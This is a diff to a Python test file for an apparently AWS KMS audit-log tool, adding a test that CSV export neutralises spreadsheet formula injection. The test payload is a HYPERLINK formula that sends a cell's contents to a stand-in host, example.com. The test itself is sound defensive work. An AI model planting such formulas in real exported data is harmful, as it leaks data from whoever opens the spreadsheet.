@@ -30,6 +30,7 @@ from kmskit.audit import (
     LogLocation,
     RecordFilter,
     UsageSummary,
+    csv_row,
     ordered_map,
     principal_of,
     record_keys,
@@ -1257,6 +1258,25 @@ def test_cli_csv_records(aws: Any, tmp_path: Path) -> None:
         (DATA_KEY, APP_ROLE, "alias/app-data"),
     ]
     assert rows[0]["userIdentityArn"] == f"arn:aws:sts::{OWNER}:assumed-role/AppRole/session-a"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_inert(start: str) -> None:
+    # A caller chooses its user agent, and a denied call is logged too.
+    formula = f'{start}HYPERLINK("https://example.com/?x="&A1,"report")'
+    record = {
+        "eventTime": "2026-11-03T10:00:00Z",
+        "eventName": "Decrypt",
+        "userAgent": formula,
+        "userIdentity": {"type": "AWSAccount", "accountId": PARTNER},
+        "requestParameters": {"keyId": formula},
+        "errorCode": "AccessDeniedException",
+    }
+    row = csv_row(record, [DATA_KEY])
+    assert row["userAgent"] == "'" + formula
+    assert row["requestKeyId"] == "'" + formula
+    assert row["eventName"] == "Decrypt"
+    assert row["keyArn"] == DATA_KEY
 
 
 def test_cli_csv_keeps_the_encryption_context(aws: Any, tmp_path: Path) -> None:
